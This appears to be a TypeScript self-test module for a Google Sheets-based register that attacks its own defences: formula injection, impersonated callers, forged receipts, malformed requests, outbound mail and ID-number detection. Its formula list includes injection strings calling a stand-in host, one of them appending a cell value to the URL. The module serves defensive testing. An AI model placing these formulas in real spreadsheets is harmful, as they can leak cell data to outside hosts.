/** The attacks that the register tries on itself: each kind tells how many it tried and how many came through. Nothing of the register changes. */
import { magMailNaar } from '../../privacy/toegang';
import { success } from '../../register/outcome';
import { holdsBsn } from '../../register/text/bsn';
import type { EndpointName } from '../../sidebar/contract';
import { endpoints } from '../../sidebar/contract';
import { writeCells } from '../../workbook/writing/writeCells';
import { admitted, withSession } from '../endpoints/user';
import { loadSettings } from '../instellingen';
import type { PublicName } from '../needs';
import { needs } from '../needs';
import { herstelPart } from '../controle/part';
import type { Context } from '../context';
import type { Room } from '../zelftest/probe';

/** What came of one kind. */
export interface Aanval {
  readonly soort: string;
  readonly aantal: number;
  readonly erdoor: number;
}

const stranger = 'aanval@buiten.invalid';

const counted = (soort: string, through: readonly boolean[]): Aanval => ({
  soort,
  aantal: through.length,
  erdoor: through.filter(Boolean).length,
});

/** What a spreadsheet would run, and what would fetch something from outside. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML("https://buiten.invalid","//a")',
  '=HYPERLINK("https://buiten.invalid","klik")',
  '=IMAGE("https://buiten.invalid/"&A1)',
  "'=1+1",
];

/** Written on the scratch tab as the register writes text: none may become a formula. */
function formulasIn({ block, app }: Room): Aanval {
  const range = block(formulas.length, 1);
  writeCells(
    range,
    formulas.map((text) => [text]),
    '@',
  );
  app.flush();
  return counted(
    'formules',
    (range.getFormulas() as string[][]).map(([formula]) => formula !== ''),
  );
}

/** The same execution as somebody else would have it. */
const asSomebody = (context: Context, name: PublicName, email: string): Context => {
  const person = { getEmail: () => email } as GoogleAppsScript.Base.User;
  const session: Partial<Context['session']> = { getActiveUser: () => person, getEffectiveUser: () => person };
  return { ...context, owner: null, session: session as Context['session'], gate: { name, session: null } };
};

/** Each function that asks who calls, called by somebody whom the register does not know, and whom Google does not name. */
function strangers(context: Context): Aanval {
  const names = (Object.keys(needs) as PublicName[]).filter((name) => needs[name] !== 'iedereen');
  const isIn = (name: PublicName, email: string): boolean => {
    const other = asSomebody(context, name, email);
    // What asks for itself does so with what is asked here.
    const ask = (): ReturnType<typeof success> => withSession(other, () => success(null)) as ReturnType<typeof success>;
    return (needs[name] === 'taakeigenaar' ? ask() : admitted(other, ask)).ok;
  };
  return counted('een vreemde', [
    ...names.map((name) => isIn(name, stranger)),
    isIn('rijenOphalen', ''),
    isIn('opslaan', ''),
  ]);
}

/** Receipts that nobody handed out, for a record that there is not: undoing it would be let in, and change nothing. */
function receipts(context: Context): Aanval {
  const step = { tab: 'stages', id: 'S-9999999', before: null, after: {} } as const;
  const forged = [
    '',
    'x',
    `${context.began}.`,
    `${context.began}.${'A'.repeat(43)}=`,
    `${context.began + 1}.${'0'.repeat(64)}`,
  ];
  const isIn = (bewijs: string): boolean =>
    herstelPart.undo(context, { verzoek: 'zelfaanval', stappen: [step], bewijs }).ok;
  return counted('vervalste bewijzen', forged.map(isIn));
}

function deep(levels: number): unknown {
  let value: unknown = 'x';
  for (let level = 0; level < levels; level++) value = [value];
  return value;
}

/** Requests that are none, to every endpoint: they may not get as far as its work. */
function requests(): Aanval {
  const wrong = [null, 7, 'x', [], deep(50)];
  return counted(
    'verkeerde vragen',
    (Object.keys(endpoints) as EndpointName[]).flatMap((name) =>
      wrong.map((request) => endpoints[name].request().safeParse(request).success),
    ),
  );
}

function mails({ marks, gate }: Context): Aanval {
  const { settings } = loadSettings(marks);
  const medewerkers = gate.session?.medewerkers ?? [];
  return counted('mail naar buiten', [magMailNaar(stranger, medewerkers, settings, [])]);
}

const spellings = [
  '111222333',
  '111 222 333',
  '111-222-333',
  '１１１２２２３３３',
  'BSN: 111.222.333',
  '111\u00a0222\u00a0333',
];

const numbers = (): Aanval =>
  counted(
    'een BSN',
    spellings.map((text) => !holdsBsn(text)),
  );

/** Medewerkers and Instellingen must be closed: how, only Google tells. */
function closed({ app, spreadsheet, marks }: Context): Aanval {
  const own = spreadsheet.getProtections(app.ProtectionType.SHEET);
  const isOpen = (tab: 'medewerkers' | 'instellingen'): boolean => {
    const id = marks.sheetOf(tab)?.getSheetId();
    return !own.some((one) => one.getRange().getSheet().getSheetId() === id && one.getEditors().length > 0);
  };
  return counted('open tabbladen', [isOpen('medewerkers'), isOpen('instellingen')]);
}

/** All of them. */
export const valAan = (room: Room): Aanval[] => [
  formulasIn(room),
  strangers(room),
  receipts(room),
  requests(),
  mails(room),
  numbers(),
  closed(room),
];
